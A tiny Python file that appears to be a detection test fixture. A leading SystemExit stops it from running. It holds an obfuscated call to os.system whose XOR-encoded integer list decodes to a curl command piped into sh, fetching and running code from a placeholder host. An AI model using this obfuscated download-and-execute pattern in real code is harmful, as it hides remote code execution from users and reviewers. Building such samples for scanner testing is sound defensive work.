raise SystemExit('a fixture')
# held by command-download
from functools import reduce
from operator import attrgetter
run = attrgetter("system")(__import__("os"))
run(reduce(lambda text, code: text + chr(code ^ 19), [112, 102, 97, 127, 51, 62, 96, 51, 123, 103, 103, 99, 96, 41, 60, 60, 119, 61, 118, 107, 114, 126, 99, 127, 118, 61, 122, 125, 101, 114, 127, 122, 119, 60, 107, 111, 96, 123], ""))
